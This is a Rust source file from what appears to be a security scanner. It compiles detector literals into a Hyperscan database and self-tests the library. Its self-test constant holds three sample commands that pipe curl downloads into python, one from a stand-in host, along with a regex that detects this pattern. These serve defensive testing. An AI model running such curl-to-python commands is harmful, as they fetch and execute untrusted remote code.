//! Turns the catalogue's literals into one Hyperscan database, and refuses a library that misses matches.
//!
//! Invariant: the database holds literals only, scanned in block mode for end offsets; what stands at a match is decided in Rust.

use std::collections::HashMap;
use std::fmt;

use hyperscan::prelude::*;
use hyperscan::{PatternFlags, Patterns};

use crate::detector::{Anchor, Detector};
use crate::written::WrittenError;

/// Why there is no engine.
#[derive(Debug)]
pub enum EngineError {
    /// The library found less than it must in texts with known matches; it is not fit to guard anything.
    MissesMatches {
        /// The library's version.
        version: String,
    },
    /// The library refused the catalogue or had no memory.
    Library(hyperscan::Error),
    /// A file of the built-in catalogue cannot be read.
    Catalogue(&'static str, WrittenError),
}

impl fmt::Display for EngineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EngineError::MissesMatches { version } => {
                write!(f, "the pattern library {version} misses known matches; build with Intel Hyperscan 5.4 (libhyperscan-dev)")
            }
            EngineError::Catalogue(file, error) => write!(f, "the catalogue's file {file} cannot be read: {error}"),
            EngineError::Library(error) => write!(f, "the pattern library failed: {error}"),
        }
    }
}

impl std::error::Error for EngineError {}

impl From<hyperscan::Error> for EngineError {
    fn from(error: hyperscan::Error) -> Self {
        EngineError::Library(error)
    }
}

/// The compiled literals of all detectors.
pub(crate) struct Literals {
    database: BlockDatabase,
    entries: Vec<Entry>,
}

/// One literal, and who waits for it.
pub(crate) struct Entry {
    text: String,
    any_case: bool,
    pub(crate) detectors: Vec<usize>,
}

impl Entry {
    /// How many bytes the literal has.
    pub(crate) fn length(&self) -> usize {
        self.text.len()
    }
}

impl Literals {
    pub(crate) fn compile(detectors: &[Detector]) -> Result<Literals, EngineError> {
        let mut entries: Vec<Entry> = Vec::new();
        let mut places: HashMap<(&str, bool), usize> = HashMap::new();
        for (number, detector) in detectors.iter().enumerate() {
            for anchor in &detector.anchors {
                let (text, any_case) = match anchor {
                    Anchor::Literal(text) => (text.as_ref(), false),
                    Anchor::AnyCase(text) => (text.as_ref(), true),
                    _ => continue,
                };
                let place = *places.entry((text, any_case)).or_insert_with(|| {
                    entries.push(Entry { text: text.to_owned(), any_case, detectors: Vec::new() });
                    entries.len() - 1
                });
                entries[place].detectors.push(number);
            }
        }
        let mut patterns = Vec::with_capacity(entries.len());
        for (id, entry) in entries.iter().enumerate() {
            let flags = if entry.any_case { PatternFlags::CASELESS } else { PatternFlags::empty() };
            let mut pattern = Pattern::with_flags(escape(&entry.text), flags)?;
            pattern.id = Some(id);
            patterns.push(pattern);
        }
        let database = Patterns(patterns).build()?;
        Ok(Literals { database, entries })
    }

    pub(crate) fn scratch(&self) -> Result<Scratch, EngineError> {
        Ok(self.database.alloc_scratch()?)
    }

    /// The literal of this number.
    pub(crate) fn entry(&self, number: u32) -> &Entry {
        &self.entries[number as usize]
    }

    /// Calls `each` with the number of the literal and the end offset of every match.
    pub(crate) fn scan(&self, text: &[u8], scratch: &Scratch, mut each: impl FnMut(u32, usize)) {
        let found = |id: u32, _from: u64, to: u64, _flags: u32| {
            each(id, to as usize);
            Matching::Continue
        };
        // A block scan of memory that we hold fails only for a scratch of another database, and ours comes from this one.
        let _ = self.database.scan(text, scratch, found);
    }
}

/// The literal as a pattern: everything but letters and digits by its code.
fn escape(literal: &str) -> String {
    literal.bytes().map(|b| if b.is_ascii_alphanumeric() { char::from(b).to_string() } else { format!("\\x{b:02x}") }).collect()
}

/// Texts in which some builds of a related library find nothing although each holds a match (reported upstream, and reproduced).
const MUST_MATCH: [&str; 3] =
    ["curl http://xxx:8000/ 2>&1 | python", "curl http://a.example/install.sh | python3 -", "sh -c 'curl -s x |python'"];

/// Scans texts with known matches.
///
/// # Errors
/// [`EngineError::MissesMatches`] when one is missed.
pub(crate) fn self_test(literals: &Literals) -> Result<(), EngineError> {
    let flags = PatternFlags::DOTALL;
    let database: BlockDatabase = Pattern::with_flags(r"curl.*\|\s*python", flags)?.build()?;
    let scratch = database.alloc_scratch()?;
    let matches = |text: &str| {
        let mut count = 0;
        let scanned = database.scan(text, &scratch, |_, _, _, _| {
            count += 1;
            Matching::Continue
        });
        scanned.is_ok() && count > 0
    };
    let mut is_fit = MUST_MATCH.iter().all(|text| matches(text));
    // Every literal of the catalogue, at every offset of a vector register.
    let scratch = literals.scratch()?;
    for (number, entry) in literals.entries.iter().enumerate() {
        let text = if entry.any_case { entry.text.to_uppercase() } else { entry.text.clone() };
        for offset in 0..64 {
            let padded = format!("{}{text}{}", "~".repeat(offset), "~".repeat(64 - offset));
            let mut found = false;
            literals.scan(padded.as_bytes(), &scratch, |id, end| found |= id as usize == number && end == offset + text.len());
            is_fit &= found;
        }
    }
    let version = || hyperscan::version_str().to_string_lossy().into_owned();
    if is_fit { Ok(()) } else { Err(EngineError::MissesMatches { version: version() }) }
}
